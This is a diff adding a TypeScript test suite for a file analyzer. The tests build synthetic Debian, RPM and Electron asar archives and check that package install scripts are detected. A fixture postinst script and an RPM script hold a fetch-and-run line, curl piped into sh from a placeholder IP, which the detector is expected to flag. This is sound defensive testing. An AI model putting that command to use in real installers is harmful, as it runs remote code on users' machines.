@@ -1,0 +1,142 @@
+// What runs when a package is installed lies where unpackers do not look: Debian's control archive, the header of RPM, the
+// script inside Electron's archive.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import type { FileRecord } from '../../src/file/analyze.ts'
+import { analyzeFile } from '../../src/file/analyze.ts'
+import { writeAr, writeTar } from './archives/write-archive.ts'
+import { buildElf } from './elf/build-elf.ts'
+
+const analyze = (bytes: Uint8Array, fileName: string) => analyzeFile(bytes, { fileName, now: new Date(0) })
+const member = (name: string, text: string) => ({ name, bytes: Buffer.from(text) })
+const FETCHES = '#!/bin/sh\ncurl -fsSL http://203.0.113.9/i.sh | sh\n'
+
+function deb(postinst: string): Buffer {
+  return writeAr([
+    member('debian-binary', '2.0\n'),
+    { name: 'control.tar', bytes: writeTar([member('./control', 'Package: a\n'), member('./postinst', postinst)]) },
+    { name: 'data.tar', bytes: writeTar([member('./usr/share/doc/a/README', 'text')]) },
+  ])
+}
+
+/** Lead, an empty signature header, and a header with one script and the program that runs it. */
+function rpm(script: string, program = '/bin/sh'): Buffer {
+  const header = (tags: readonly (readonly [number, string])[]): Buffer => {
+    const store = Buffer.from(tags.map(([, text]) => `${text}\0`).join(''))
+    const index = Buffer.alloc(16 * tags.length)
+    let at = 0
+    for (const [place, [tag, text]] of tags.entries()) {
+      for (const [field, value] of [tag, 6, at, 1].entries()) index.writeUInt32BE(value, place * 16 + field * 4)
+      at += Buffer.byteLength(text) + 1
+    }
+    const head = Buffer.alloc(16)
+    head.writeUInt32BE(0x8eade801, 0)
+    head.writeUInt32BE(tags.length, 8)
+    head.writeUInt32BE(store.length, 12)
+    return Buffer.concat([head, index, store])
+  }
+  const lead = Buffer.alloc(96)
+  lead.writeUInt32BE(0xedabeedb, 0)
+  lead.writeUInt8(3, 4)
+  return Buffer.concat([
+    lead,
+    header([]),
+    header([
+      [1024, script],
+      [1086, program],
+    ]),
+  ])
+}
+
+function asar(files: Readonly<Record<string, string>>, given?: Readonly<Record<string, unknown>>): Buffer {
+  let at = 0
+  const table: Record<string, unknown> = {}
+  for (const [name, text] of Object.entries(files)) {
+    table[name] = { size: Buffer.byteLength(text), offset: String(at) }
+    at += Buffer.byteLength(text)
+  }
+  const json = Buffer.from(JSON.stringify({ files: { ...table, ...given } }))
+  const padded = Buffer.alloc(Math.ceil(json.length / 4) * 4)
+  json.copy(padded)
+  const head = Buffer.alloc(16)
+  for (const [place, value] of [4, padded.length + 8, padded.length + 4, json.length].entries())
+    head.writeUInt32LE(value, place * 4)
+  return Buffer.concat([head, padded, Buffer.from(Object.values(files).join(''))])
+}
+
+function idsOf(file: FileRecord): readonly string[] {
+  return [...file.findings.map(({ id }) => id), ...file.children.flatMap(idsOf)]
+}
+
+function namesOf({ facts }: FileRecord): readonly (string | null)[] {
+  return facts.children.map(({ name }) => name)
+}
+
+test('the script that a Debian package runs is found', async () => {
+  const { root, verdict } = await analyze(deb(FETCHES), 'a.deb')
+  assert.deepEqual(namesOf(root), ['control.tar', 'data.tar'])
+  assert.ok(idsOf(root).includes('script_pipes_download_to_shell'))
+  assert.equal(verdict.label, 'suspicious')
+})
+
+test('a Debian package that registers its service is clean', async () => {
+  const script = '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then deb-systemd-helper enable a.service; fi\n'
+  assert.equal((await analyze(deb(script), 'a.deb')).verdict.label, 'clean')
+})
+
+test('a Debian package that is cut off says so', async () => {
+  const { root } = await analyze(deb(FETCHES).subarray(0, 2000), 'a.deb')
+  assert.match(root.facts.defects.map(({ what }) => what).join(), /cut off/)
+})
+
+test('the script that an RPM package runs is found, with the program that runs it', async () => {
+  const { root } = await analyze(rpm('curl -fsSL http://203.0.113.9/i.sh | sh\n'), 'a.rpm')
+  const script = root.facts.children.find(({ name }) => name === 'postin')
+  assert.equal(script?.type.fileType, 'script')
+  assert.ok(idsOf(root).includes('script_pipes_download_to_shell'))
+})
+
+test('an RPM package that updates the library cache says nothing', async () => {
+  assert.deepEqual(idsOf((await analyze(rpm('/sbin/ldconfig\n'), 'a.rpm')).root), [])
+})
+
+test('an RPM package whose header claims too much is a defect, not an exception', async () => {
+  const bytes = rpm('true')
+  bytes.writeUInt32BE(0xffffffff, 96 + 8)
+  assert.match((await analyze(bytes, 'a.rpm')).root.facts.defects.map(({ where }) => where).join(), /rpm\.header/)
+})
+
+test("members of Electron's archive are files of their own", async () => {
+  const files = { 'main.js': 'require("electron")\n', 'package.json': '{"name":"a","main":"main.js"}' }
+  const { root, verdict } = await analyze(asar(files), 'app.asar')
+  assert.deepEqual(namesOf(root).toSorted(), ['main.js', 'package.json'])
+  assert.equal(verdict.label, 'clean')
+})
+
+test("folders, links and places past the end of Electron's archive", async () => {
+  const table = {
+    lib: { files: { 'a.js': { size: 2, offset: '0' }, link: { link: 'a.js' } } },
+    far: { size: 10, offset: '9999' },
+    beside: { size: 10, unpacked: true },
+    odd: { size: 4, offset: 'x' },
+    none: null,
+  }
+  const { root } = await analyze(asar({ 'b.js': '1;' }, table), 'app.asar')
+  assert.deepEqual(namesOf(root).toSorted(), ['b.js', 'lib/a.js'])
+  assert.equal(root.facts.archive?.entryCount, 6)
+  assert.match(root.facts.defects.map(({ where }) => where).join(), /asar\.member/)
+})
+
+test('zeroes and the signature of a kernel module behind a program are no file', async () => {
+  const program = buildElf({})
+  const line = '~Module signature appended~\n'
+  const about = Buffer.alloc(12)
+  about.writeUInt32BE(400, 8)
+  const signature = Buffer.concat([Buffer.alloc(400, 0x31), about, Buffer.from(line)])
+  const childrenOf = async (...parts: readonly Uint8Array[]) =>
+    (await analyze(Buffer.concat([program, ...parts]), 'a.ko')).root.facts.children.length
+  assert.equal(await childrenOf(Buffer.alloc(5000)), 0)
+  assert.equal(await childrenOf(signature), 0)
+  // A payload with that line behind it is not explained by it.
+  assert.equal(await childrenOf(Buffer.alloc(5000, 0x32), signature), 1)
+})
